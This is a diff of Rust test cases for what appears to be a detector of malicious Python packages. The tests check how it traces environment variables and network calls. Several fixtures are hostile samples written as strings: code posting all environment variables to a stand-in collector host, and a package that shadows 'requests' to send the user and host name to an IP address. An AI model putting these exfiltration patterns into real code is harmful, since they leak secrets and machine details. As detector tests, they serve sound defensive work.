@@ -181,12 +181,13 @@ fn a_variable_of_the_environment_is_not_the_environment() {
     assert_eq!(verdict, "malicious", "{behaviors:?}");
 }
 
-/// What is replaced in a text is gone from it.
+/// What is searched for in a text is not in the result; what takes its place is.
 #[test]
 fn a_secret_that_is_replaced_is_not_told_as_logged() {
-    let text = "import os\n\ndef show(text):\n    print(text.replace(os.environ['SERVICE_TOKEN'], '***'))\n";
+    let text = "import os\n\ndef hide(data):\n    text = str(data)\n    print(text.replace(os.environ['SERVICE_TOKEN'], '***'))\n\ndef show(data):\n    text = str(data)\n    print(text.replace('***', os.environ['OTHER_TOKEN']))\n";
     let found = paths("show.py", text);
-    assert!(!found.contains("environment os.environ(SERVICE_TOKEN) -> log"), "{found}");
+    assert!(!found.contains("os.environ(SERVICE_TOKEN)"), "{found}");
+    assert!(found.contains("environment os.environ(OTHER_TOKEN) -> log print(args)"), "{found}");
 }
 
 /// What is written into a buffer in memory, or printed, is no file.
@@ -195,4 +196,56 @@ fn a_buffer_in_memory_is_no_file() {
     let text = "import io\nimport json\n\ndef dump(rows):\n    buffer = io.StringIO()\n    json.dump(rows, buffer)\n    return buffer.getvalue()\n";
     let found = paths("dump.py", text);
     assert!(!found.contains("file.write"), "{found}");
+}
+
+/// Code that is executed as text adds meanings to a name; it takes none away, and code of another process adds none.
+#[test]
+fn an_executed_text_hides_no_name() {
+    for first in [
+        "exec('requests = None', {})",
+        "exec('requests = None')",
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-c', 'import json as requests\\nprint(requests.dumps(1))'])",
+    ] {
+        let text = format!(
+            "import os\nimport requests\n{first}\nrequests.post('https://collect.example.invalid/e', data=str(dict(os.environ)))\n"
+        );
+        let (verdict, found) = judged(&[("send.py", &text)]);
+        assert_eq!(verdict, "malicious", "{first}: {found:?}");
+    }
+}
+
+/// A function of one's own that may stand in the place of a library's is called too.
+#[test]
+fn an_alternative_to_a_library_is_no_copy_of_it() {
+    let text = "import os\n\ndef fetch(url):\n    return os.environ['LOCAL_KEY']\n\nif os.name == 'nt':\n    from requests import get as fetch\nprint(fetch('https://files.example.invalid/a'))\n";
+    let found = paths("fetch.py", text);
+    assert!(found.contains("environment os.environ(LOCAL_KEY) -> log print(args)"), "{found}");
+}
+
+/// Only who stands inside of a copy of a library is told by its text, and not who has a name that begins so.
+#[test]
+fn a_name_that_begins_as_a_librarys_is_not_inside_of_it() {
+    let setup =
+        "from setuptools import setup\nsetup(name='near', version='1.0', packages=['requests', 'requests_near'])\n";
+    let api = "def post(url, **options):\n    return options\n";
+    let user = "import getpass\nimport socket\nfrom requests.api import post\n\npost('http://192.0.2.9/a', data=getpass.getuser() + socket.gethostname())\n";
+    let (verdict, found) = judged(&[
+        ("setup.py", setup),
+        ("requests/__init__.py", "from .api import post\n"),
+        ("requests/api.py", api),
+        ("requests_near/__init__.py", user),
+    ]);
+    assert_eq!(verdict, "malicious", "{found:?}");
+}
+
+/// A list of which one item is not known tells nothing of what is in it.
+#[test]
+fn a_list_with_an_unknown_item_tells_nothing() {
+    let text = "import requests\n\ndef ask(host, other):\n    if host in ('https://api.example.invalid', other):\n        requests.get(host)\n    if host in ('https://api.example.invalid', 'https://files.example.invalid'):\n        requests.head(host)\n";
+    let values = Place::new().file("ask.py", text).run(&["dev", "values", "ask.py"]).stdout;
+    assert!(
+        values.contains("requests.get ask.py:5\n  url [network.destination] = `host` from parameter\n"),
+        "{values}"
+    );
+    assert!(values.contains("requests.head ask.py:7\n  url [network.destination] = `https://api.example.invalid` or `https://files.example.invalid`"), "{values}");
 }
